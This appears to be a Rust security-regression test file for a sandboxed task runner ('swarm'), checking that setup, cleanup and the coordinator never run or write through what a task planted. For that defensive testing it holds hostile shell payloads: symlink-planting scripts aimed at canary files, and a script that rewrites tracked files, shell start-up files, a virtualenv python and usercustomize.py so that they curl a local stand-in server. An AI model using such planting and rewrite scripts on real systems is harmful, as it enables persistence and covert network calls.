//! No actor with more rights than a task consumes what a task wrote
//! (issue 73): the coordinator never writes through a link a task planted
//! in its tmp (a retry's and a cleanup's files are made in a tmp made
//! fresh for them); `[setup]` with its own network runs only in a checkout
//! no task wrote (its dependencies', its parent's and an earlier run's
//! work get the task's rights, or a copy of the setup made at the base);
//! `[cleanup]` never has more than the task; a kept setup is never reused
//! on another base. Each attack is a real command in the real sandbox,
//! driven through the `swarm` binary; a server on 127.0.0.2 stands for the
//! internet that only setup and cleanup were given, and says which of its
//! paths were asked for.

use std::io::{Read, Write};
use std::net::TcpListener;
use std::sync::{Arc, Mutex};
use std::time::Duration;

use crate::sandbox::sandbox_available;
use crate::support::{TestRepo, redact, snapshot_settings, summary_of, task};

/// An HTTP server on 127.0.0.2 that answers every request `ok` and keeps
/// the paths it was asked for.
struct Internet {
    port: u16,
    asked: Arc<Mutex<Vec<String>>>,
}

impl Internet {
    fn start() -> Self {
        let listener = TcpListener::bind(("127.0.0.2", 0)).unwrap();
        let port = listener.local_addr().unwrap().port();
        let asked = Arc::new(Mutex::new(Vec::new()));
        let seen = Arc::clone(&asked);
        std::thread::spawn(move || {
            for stream in listener.incoming() {
                let Ok(mut stream) = stream else { continue };
                let _ = stream.set_read_timeout(Some(Duration::from_secs(5)));
                let mut head = Vec::new();
                let mut byte = [0u8; 1];
                while !head.ends_with(b"\r\n\r\n") {
                    match stream.read(&mut byte) {
                        Ok(1) => head.push(byte[0]),
                        _ => break,
                    }
                }
                let line = String::from_utf8_lossy(&head)
                    .lines()
                    .next()
                    .unwrap_or("")
                    .to_string();
                if let Some(path) = line.split(' ').nth(1) {
                    seen.lock().unwrap().push(path.to_string());
                }
                let _ = stream.write_all(
                    b"HTTP/1.1 200 OK\r\nContent-Length: 3\r\nConnection: close\r\n\r\nok\n",
                );
            }
        });
        Self { port, asked }
    }

    /// `text` with this server's port as `[PORT]`.
    fn redact(&self, text: &str) -> String {
        text.replace(&format!("127.0.0.2:{}", self.port), "127.0.0.2:[PORT]")
    }

    /// What it was asked for, in order.
    fn asked(&self) -> Vec<String> {
        self.asked.lock().unwrap().clone()
    }

    /// `network = [...]` reaching it.
    fn listed(&self) -> String {
        format!("[\"127.0.0.2:{}\"]", self.port)
    }

    /// A shell line that asks for `path` through the egress proxy (the
    /// sandbox's `HTTP_PROXY`), failing quietly without a network.
    fn fetch(&self, path: &str) -> String {
        format!("curl -s -m 5 http://127.0.0.2:{}/{path} || true", self.port)
    }
}

/// Files outside every worktree and tmp, as root's: each must be as it
/// was once the run ends.
struct Canaries {
    dir: std::path::PathBuf,
}

impl Canaries {
    fn new(repo: &TestRepo, names: &[&str]) -> Self {
        let dir = repo.outside().join("canaries");
        std::fs::create_dir_all(&dir).unwrap();
        for name in names {
            std::fs::write(dir.join(name), format!("canary {name}\n")).unwrap();
        }
        Self { dir }
    }

    fn path(&self, name: &str) -> String {
        self.dir.join(name).display().to_string()
    }

    /// Fails naming each canary that changed, and anything new beside them.
    fn assert_untouched(&self, names: &[&str], said: &str) {
        for name in names {
            let now = std::fs::read_to_string(self.dir.join(name)).unwrap_or_default();
            assert_eq!(
                now,
                format!("canary {name}\n"),
                "canary {name} changed\n{said}"
            );
        }
        let there = std::fs::read_dir(&self.dir).unwrap().count();
        assert_eq!(
            there,
            names.len(),
            "something new beside the canaries\n{said}"
        );
    }
}

#[test]
fn links_a_task_plants_in_its_tmp_are_never_written_through_on_its_retry_nor_by_cleanup() {
    let repo = TestRepo::new();
    if !sandbox_available(&repo) {
        return;
    }
    for f in ["alpha", "beta", "gamma"] {
        repo.write(&format!("e/{f}"), f);
    }
    repo.commit_all("entries");
    let names = ["entries", "gitconfig", "deps"];
    let canaries = Canaries::new(&repo, &names);
    // Attempt 1 replaces every file swarm wrote in its tmp, and those it
    // will write, with links to the canaries, and fails; attempt 2 checks
    // that it was given real files of its own again.
    let plan = repo.plan(
        "tmp.toml",
        &format!(
            "[swarm]\nname = \"tmp\"\n\n[cleanup]\nrun = \"true\"\n\n\
             [[task]]\nid = \"t\"\nmatrix = {{ f = {{ glob = \"e/*\" }} }}\nshards = 1\nretries = 1\nrun = '''\n\
             if [ \"$SWARM_ATTEMPT\" = 1 ]; then\n\
               ln -sf {entries} \"$SWARM_ENTRIES\"\n\
               rm -f \"$HOME/.gitconfig\"; ln -s {gitconfig} \"$HOME/.gitconfig\"\n\
               ln -s {deps} \"$TMPDIR/deps-output.json\"\n\
               exit 1\n\
             fi\n\
             test -f \"$SWARM_ENTRIES\" && test ! -L \"$SWARM_ENTRIES\" && grep -qx e/beta \"$SWARM_ENTRIES\"\n\
             test ! -L \"$TMPDIR/deps-output.json\"\n\
             echo ok > done.txt\n'''\n",
            entries = canaries.path("entries"),
            gitconfig = canaries.path("gitconfig"),
            deps = canaries.path("deps"),
        ),
    );
    let run = repo.run_plan(&plan, &[]);
    run.assert_code(0);
    let report = repo.report();
    assert_eq!(task(&report, "t-1")["attempts"], 2, "{report:#}");
    canaries.assert_untouched(&names, &run.stderr);
}

/// A repository whose setup fetches from `net` (`setup.sh`, tracked) and
/// whose cleanup runs `clean.sh` (tracked); `.tools/` is ignored.
fn fetching_project(net: &Internet) -> TestRepo {
    let repo = TestRepo::new();
    repo.write(
        "setup.sh",
        &format!(
            "{}\nmkdir -p .tools && echo made > .tools/setup.txt\n",
            net.fetch("setup")
        ),
    );
    repo.write("clean.sh", &format!("{}\n", net.fetch("cleanup")));
    repo.write("deps.lock", "one\n");
    repo.write(".gitignore", ".tools/\n");
    repo.write("src/a.txt", "a\n");
    repo.commit_all("a project whose setup fetches");
    repo
}

#[test]
fn setup_runs_no_script_a_dependency_or_a_parent_rewrote_with_its_network() {
    let net = Internet::start();
    let repo = fetching_project(&net);
    if !sandbox_available(&repo) {
        return;
    }
    // `a` rewrites setup.sh; `b` starts from `a`'s result; `a`'s subtask
    // from `a`'s worktree. Neither setup may reach the network with the
    // rewritten script: no key, so each runs with its task's rights.
    let evil = net.fetch("pwned-by-a");
    let plan = repo.plan(
        "dep.toml",
        &format!(
            "[swarm]\nname = \"dep\"\n\n[setup]\nrun = \"sh setup.sh\"\nnetwork = {listed}\n\n\
             [[task]]\nid = \"a\"\nsetup = false\nrun = '''\n\
             printf '%s\\n' '{evil}' > setup.sh\n\
             cat > \"$SWARM_SUBTASKS\" <<'REQUEST'\n\
             [[task]]\nid = \"child\"\nsetup = true\ncreates = [\"child.txt\"]\nrun = \"echo child > child.txt\"\n\
             REQUEST\n'''\n\n\
             [[task]]\nid = \"b\"\ndeps = [\"a\"]\nrun = \"echo b > src/b.txt\"\n",
            listed = net.listed(),
        ),
    );
    let run = repo.run_plan(&plan, &[]);
    run.assert_code(0);
    let report = repo.report();
    assert_eq!(task(&report, "b")["status"], "merged", "{report:#}");
    assert_eq!(
        task(&report, "a/child")["status"],
        "succeeded",
        "{report:#}"
    );
    assert!(
        !net.asked().iter().any(|p| p.contains("pwned")),
        "a setup ran a task's script with setup's network: {:?}\n{}",
        net.asked(),
        run.stderr
    );
    // It said so, in the setup's log, in the person's terms.
    let log =
        std::fs::read_to_string(repo.path().join(".swarm/runs/dep/logs/b/1.setup.err")).unwrap();
    snapshot_settings().bind(|| insta::assert_snapshot!(net.redact(&redact(&log, &repo)), @r#"swarm: [setup] runs with the rights of task `b` (network = "none", its own variables), not its own (network = ["127.0.0.2:[PORT]"]): its worktree holds its dependencies' results, whose files setup would run; a `key` whose files are as at the run's base makes it copy the setup made there instead"#));
    // And `swarm validate` warned before it ran.
    let validate = repo.swarm(&["validate", plan.to_str().unwrap()]);
    snapshot_settings()
        .bind(|| insta::assert_snapshot!(net.redact(&redact(&validate.stderr, &repo)), @r#"
         ⚠ `[setup]` asks for network ["127.0.0.2:[PORT]"] or variables that task `b` does not have, and
         │ it starts from its dependencies' results: setup runs there with the task's own
          ╭─[[TMP]/plans/dep.toml:4:1]
        3 │ 
        4 │ [setup]
          · ───┬───
          ·    ╰── runs with the task's network there
        5 │ run = "sh setup.sh"
          ╰────
         help: setup runs its own network and variables only in a checkout of the run's base, which no
               task wrote; give [setup] a `key` (the files its work depends on, e.g. key = ["package-
               lock.json"]) and those tasks copy the setup made at the base
        "#));
}

#[test]
fn with_a_key_a_dependent_copies_the_setup_made_at_the_base_and_never_runs_its_own() {
    let net = Internet::start();
    let repo = fetching_project(&net);
    if !sandbox_available(&repo) {
        return;
    }
    let evil = net.fetch("pwned-by-a");
    // `a` (no setup of its own) rewrites setup.sh; `b` starts from its
    // result, with the key files of the base: the setup of the base is
    // made in a checkout of its own (it fetches once, legitimately) and
    // copied in.
    let plan = repo.plan(
        "key.toml",
        &format!(
            "[swarm]\nname = \"key\"\n\n[setup]\nrun = \"sh setup.sh\"\nnetwork = {listed}\nkey = [\"deps.lock\"]\n\n\
             [[task]]\nid = \"a\"\nsetup = false\nrun = \"printf '%s\\\\n' '{evil}' > setup.sh\"\n\n\
             [[task]]\nid = \"b\"\ndeps = [\"a\"]\nrun = \"test -f .tools/setup.txt && echo b > src/b.txt\"\n",
            listed = net.listed(),
        ),
    );
    let run = repo.run_plan(&plan, &[]);
    run.assert_code(0);
    assert_eq!(
        task(&repo.report(), "b")["status"],
        "merged",
        "{}",
        run.stderr
    );
    assert_eq!(net.asked(), ["/setup"], "{}", run.stderr);
}

#[test]
fn cleanup_never_has_more_network_than_the_task_whose_files_it_runs() {
    let net = Internet::start();
    let repo = fetching_project(&net);
    if !sandbox_available(&repo) {
        return;
    }
    let evil = net.fetch("pwned-by-t");
    let plan = repo.plan(
        "clean.toml",
        &format!(
            "[swarm]\nname = \"clean\"\n\n[cleanup]\nrun = \"sh clean.sh\"\nnetwork = {listed}\n\n\
             [[task]]\nid = \"t\"\nrun = \"printf '%s\\\\n' '{evil}' > clean.sh\"\n",
            listed = net.listed(),
        ),
    );
    let run = repo.run_plan(&plan, &[]);
    run.assert_code(0);
    assert!(
        !net.asked().iter().any(|p| p.contains("pwned")),
        "cleanup ran the task's script with cleanup's network: {:?}",
        net.asked()
    );
    let validate = repo.swarm(&["validate", plan.to_str().unwrap()]);
    snapshot_settings()
        .bind(|| insta::assert_snapshot!(net.redact(&redact(&validate.stderr, &repo)), @r#"
         ⚠ `[cleanup]` asks for network ["127.0.0.2:[PORT]"], more than task `t` has: it runs there with
         │ the task's own
          ╭─[[TMP]/plans/clean.toml:4:1]
        3 │ 
        4 │ [cleanup]
          · ────┬────
          ·     ╰── runs with each task's own network
        5 │ run = "sh clean.sh"
          ╰────
         help: cleanup runs in a task's worktree, with whatever the task made of its files, so it never
               gets more than the task: give the task the network cleanup needs, or do the networked part
               in [setup]
        "#));
}

#[test]
fn an_earlier_runs_leftovers_in_a_warm_worktree_never_run_with_setups_network() {
    let net = Internet::start();
    let repo = fetching_project(&net);
    if !sandbox_available(&repo) {
        return;
    }
    // setup.sh runs `.tools/fetch` when it is there (an ignored file, as a
    // virtualenv's `bin/python` is); run 1's task plants one.
    repo.write(
        "setup.sh",
        &format!(
            "[ -x .tools/fetch ] || {{ mkdir -p .tools && printf '#!/bin/sh\\n{}\\n' > .tools/fetch && chmod +x .tools/fetch; }}\n./.tools/fetch\n",
            net.fetch("setup")
        ),
    );
    repo.commit_all("setup runs a tool it keeps");
    let plant = format!(
        "printf '#!/bin/sh\\n%s\\n' '{}' > .tools/fetch && chmod +x .tools/fetch",
        net.fetch("pwned-by-run-1")
    );
    let plan = |name: &str, run: &str| {
        repo.plan(
            &format!("{name}.toml"),
            &format!(
                "[swarm]\nname = \"{name}\"\n\n[setup]\nrun = \"sh setup.sh\"\nnetwork = {listed}\n\n\
                 [[task]]\nid = \"w\"\nrun = '''\n{run}\n'''\n",
                listed = net.listed(),
            ),
        )
    };
    let first = repo.run_plan(&plan("one", &plant), &[]);
    first.assert_code(0);
    let second = repo.run_plan(&plan("two", "echo w > src/w.txt"), &[]);
    second.assert_code(0);
    assert!(
        !net.asked().iter().any(|p| p.contains("pwned")),
        "setup ran what an earlier run's task left: {:?}\n{}",
        net.asked(),
        second.stderr
    );
    assert_eq!(net.asked(), ["/setup", "/setup"], "{}", second.stderr);
}

#[test]
fn a_setup_kept_on_one_base_is_never_copied_onto_another() {
    let repo = TestRepo::new();
    if !sandbox_available(&repo) {
        return;
    }
    repo.write("deps.lock", "one\n");
    repo.write(".gitignore", ".tools/\n");
    repo.write("setup.sh", "mkdir -p .tools && echo clean > .tools/tool\n");
    repo.commit_all("main");
    let main = repo.git(&["rev-parse", "HEAD"]).trim().to_string();
    // A pull request's base: its own setup.sh, the same key files.
    repo.write(
        "setup.sh",
        "mkdir -p .tools && echo poisoned > .tools/tool\n",
    );
    repo.commit_all("a pull request");
    let pr = repo.git(&["rev-parse", "HEAD"]).trim().to_string();
    let plan = repo.plan(
        "kept.toml",
        "[setup]\nrun = \"sh setup.sh\"\nkey = [\"deps.lock\"]\n\n\
         [[task]]\nid = \"check\"\nrun = \"grep -qx clean .tools/tool || { cat .tools/tool; exit 1; }; echo ok > src.txt\"\n",
    );
    // On the pull request's base the check fails (its setup is poisoned)
    // and the poisoned setup is kept; on main's, the check must pass.
    let on_pr = repo.run_plan(&plan, &["--base", &pr, "--name", "pr"]);
    on_pr.assert_code(1);
    let on_main = repo.run_plan(&plan, &["--base", &main, "--name", "main"]);
    on_main.assert_code(0);
    assert_eq!(
        task(&repo.report(), "check")["status"],
        "merged",
        "{}",
        on_main.stderr
    );
}

/// Replaces every file and directory below each directory it is given
/// with a link to a canary (`$CANARIES/file`, `$CANARIES/dir`), and plants
/// such links at every name swarm writes for a task or a phase: whatever
/// swarm then writes, reads or removes there through a link reaches a
/// canary.
const PLANT: &str = r#"#!/bin/sh
c="$CANARIES"
for d in "$@"; do
  [ -d "$d" ] && [ ! -L "$d" ] || continue
  find "$d" -mindepth 1 -depth 2>/dev/null | while IFS= read -r p; do
    if [ -d "$p" ] && [ ! -L "$p" ]; then rm -rf "$p"; ln -s "$c/dir" "$p"; else rm -f "$p"; ln -s "$c/file" "$p"; fi
  done
  for n in deps-output.json swarm-entries.txt .gitconfig target agent-home.1 agent-home.2 \
           .cache .local .config report.xml home tmp .tools .env; do
    [ -e "$d/$n" ] || [ -L "$d/$n" ] || ln -s "$c/file" "$d/$n"
  done
done
exit 0
"#;

#[test]
fn hostile_tmp_harness_no_phase_writes_reads_or_removes_through_a_planted_link() {
    let repo = TestRepo::new();
    if !sandbox_available(&repo) {
        return;
    }
    let canaries = repo.outside().join("canaries");
    std::fs::create_dir_all(canaries.join("dir")).unwrap();
    std::fs::write(canaries.join("file"), "canary\n").unwrap();
    std::fs::write(canaries.join("dir/inside"), "canary\n").unwrap();
    let check = |said: &str| {
        assert_eq!(
            std::fs::read_to_string(canaries.join("file")).unwrap(),
            "canary\n",
            "{said}"
        );
        assert_eq!(
            std::fs::read_to_string(canaries.join("dir/inside")).unwrap(),
            "canary\n",
            "{said}"
        );
        let mut there: Vec<_> = std::fs::read_dir(canaries.join("dir"))
            .unwrap()
            .map(|e| e.unwrap().file_name().to_string_lossy().into_owned())
            .collect();
        there.sort();
        assert_eq!(there, ["inside"], "{said}");
        assert_eq!(std::fs::read_dir(&canaries).unwrap().count(), 2, "{said}");
    };
    repo.write("plant.sh", PLANT);
    repo.write(".gitignore", ".tools/\n.env\n");
    repo.write(".worktreeinclude", ".env\n");
    repo.write(".env", "KEY=value\n");
    repo.write("deps.lock", "one\n");
    repo.write("shared.txt", "base\n");
    for f in ["alpha", "beta"] {
        repo.write(&format!("e/{f}"), f);
    }
    repo.commit_all("a project that plants links everywhere");
    // Every phase plants in its HOME and tmp and in what it may write of
    // the worktree that swarm touches (setup's outputs, the included file).
    let plant =
        "sh plant.sh \"$HOME\" \"$TMPDIR\" .tools; rm -f .env; ln -s \"$CANARIES/file\" .env";
    let plan = |name: &str, extra_tasks: &str| {
        repo.plan(
            &format!("{name}.toml"),
            &format!(
                "[swarm]\nname = \"{name}\"\nkeep_runs = 1\nverify = '''\nsh plant.sh \"$HOME\" \"$TMPDIR\"\n'''\n\n\
                 [defaults]\nenv = {{ CANARIES = \"{c}\" }}\n\n\
                 [setup]\nrun = '''\nmkdir -p .tools && echo tool > .tools/tool && {plant}\n'''\nkey = [\"deps.lock\"]\n\n\
                 [cleanup]\nrun = '''\n{plant}\n'''\n\n\
                 [[task]]\nid = \"shard\"\nmatrix = {{ f = {{ glob = \"e/*\" }} }}\nshards = 1\nretries = 1\nrun = '''\n\
                 {plant}\nsh plant.sh \"$(dirname \"$SWARM_ENTRIES\")\"\n[ \"$SWARM_ATTEMPT\" = 2 ] && echo done > shard.txt\n'''\n\n\
                 [[task]]\nid = \"v\"\nvariants = 2\ncreates = [\"v.txt\"]\nscore = '''\nsh plant.sh \"$HOME\" \"$TMPDIR\"; echo {{variant}}\n'''\npick = \"max\"\n\
                 run = '''\n{plant}\necho {{variant}} > v.txt\n'''\n\n\
                 [[task]]\nid = \"c1\"\nrun = '''\n{plant}\necho c1 > shared.txt\n'''\n\n\
                 [[task]]\nid = \"c2\"\nrun = '''\n{plant}\necho c2 >> shared.txt\n'''\n\n{extra_tasks}",
                c = canaries.display(),
            ),
        )
    };
    // Run 1 keeps a failed task's worktree (links in it) for a look.
    let failing = format!(
        "[[task]]\nid = \"f\"\nrun = '''\n{plant}\nln -s \"$CANARIES/dir\" untracked-dir\nexit 3\n'''\n"
    );
    let one = repo.run_plan(&plan("one", &failing), &[]);
    one.assert_code(1);
    check(&one.stderr);
    snapshot_settings()
        .bind(|| insta::assert_snapshot!(redact(summary_of(&one.stderr), &repo), @r#"
        run one: finished with failures (exit 1)
          task     status          time  try  changed  result
          shard-1  merged         [T]s    2        1  refs/swarm/one/shard-1
          v@1      succeeded      [T]s    1        1  refs/swarm/one/v@1
          v@2      succeeded      [T]s    1        1  refs/swarm/one/v@2
          v        merged             -    0        1  refs/swarm/one/v@2
          c1       merged         [T]s    1        1  refs/swarm/one/c1
          c2       merged         [T]s    2        1  refs/swarm/one/c2
          f        failed         [T]s    1        1  refs/swarm/one/f

          experiment v (pick = "max"): picked v@2
            rank variant score verify  time diff
            1    v@2         2 -      [T]s 1 file +1 -0 picked
            2    v@1         1 -      [T]s 1 file +1 -0

          4 merged, 0 succeeded (read-only), 1 failed, 0 conflicted, 0 blocked or skipped, 0 cancelled; 2 variants (see the rankings)
          branch swarm/one at [HASH], [T]s
          verify: 1 run ([T]s); the branch passes
          f: exited with code 3
          f log: .swarm/runs/one/logs/f/1.err
        "#));
    // Run 2: warm worktrees with links in them, a kept setup, and the
    // retention of run 1 (`keep_runs = 1`).
    let two = repo.run_plan(&plan("two", ""), &[]);
    two.assert_code(0);
    check(&two.stderr);
    // Land it on a base that moved: a landing run (merges again, conflict
    // re-runs, its verify).
    repo.write("shared.txt", "moved\n");
    repo.commit_all("the base moves");
    let land = repo.swarm(&["land", "two"]);
    land.assert_code(0);
    check(&format!("{}\n{}", land.stdout, land.stderr));
}

/// Rewrites every file the task can write (tracked or not, in its
/// worktree and its HOME) into a script that asks `$NET` for
/// `/pwned-<what ran it>`, and plants such scripts where tools look
/// (`.tools/`, a virtualenv's `bin/`, `node_modules/.bin/`, shell and
/// Python start-up files in HOME).
const REWRITE: &str = r#"#!/bin/sh
payload() { printf '#!/bin/sh\ncurl -s -m 5 "%s/pwned-%s" || true\n' "$NET" "$1"; }
git ls-files | while IFS= read -r f; do payload "$(echo "$f" | tr / _)" > "$f"; chmod +x "$f"; done
for f in .tools/fetch .venv/bin/python node_modules/.bin/jest; do
  mkdir -p "$(dirname "$f")"; payload "$(echo "$f" | tr / _)" > "$f"; chmod +x "$f"
done
for f in .bashrc .profile .bash_profile; do payload "home$f" > "$HOME/$f"; done
mkdir -p "$HOME/.local/lib"
printf 'import os\nos.system("curl -s -m 5 %s/pwned-usercustomize")\n' "$NET" > "$HOME/.local/lib/usercustomize.py"
exit 0
"#;

#[test]
fn no_actor_with_more_rights_than_a_task_runs_anything_a_task_rewrote() {
    let net = Internet::start();
    let repo = fetching_project(&net);
    if !sandbox_available(&repo) {
        return;
    }
    repo.write("rewrite.sh", REWRITE);
    repo.commit_all("a task that rewrites everything");
    let url = format!("http://127.0.0.2:{}", net.port);
    // `evil` rewrites everything it can and asks for a subtask; `dep`
    // starts from its result; cleanup runs after each; a second run finds
    // `evil`'s warm worktree as it left it.
    let tasks = r#"
[[task]]
id = "evil"
run = '''
cp rewrite.sh "$TMPDIR/r.sh" && sh "$TMPDIR/r.sh"
cat > "$SWARM_SUBTASKS" <<'REQUEST'
[[task]]
id = "child"
setup = true
creates = ["child.txt"]
run = "echo child > child.txt"
REQUEST
'''

[[task]]
id = "dep"
deps = ["evil"]
run = "echo dep > dep.txt"
"#;
    let plan = |name: &str| {
        repo.plan(
            &format!("{name}.toml"),
            &format!(
                "[swarm]\nname = \"{name}\"\n\n[defaults]\nenv = {{ NET = \"{url}\" }}\n\n\
                 [setup]\nrun = \"sh setup.sh\"\nnetwork = {listed}\n\n\
                 [cleanup]\nrun = \"sh clean.sh\"\nnetwork = {listed}\n{tasks}",
                listed = net.listed(),
            ),
        )
    };
    let one = repo.run_plan(&plan("one"), &[]);
    one.assert_code(0);
    let two = repo.run_plan(&plan("two"), &[]);
    two.assert_code(0);
    let pwned: Vec<String> = net
        .asked()
        .into_iter()
        .filter(|p| p.contains("pwned"))
        .collect();
    assert_eq!(
        pwned,
        Vec::<String>::new(),
        "{}\n{}",
        one.stderr,
        two.stderr
    );
    // Setup did run with its own network where nothing a task wrote was:
    // in `evil`'s fresh worktree in run 1, and scrubbed in run 2.
    let setups = net.asked().iter().filter(|p| *p == "/setup").count();
    assert!(setups >= 2, "{:?}", net.asked());
}
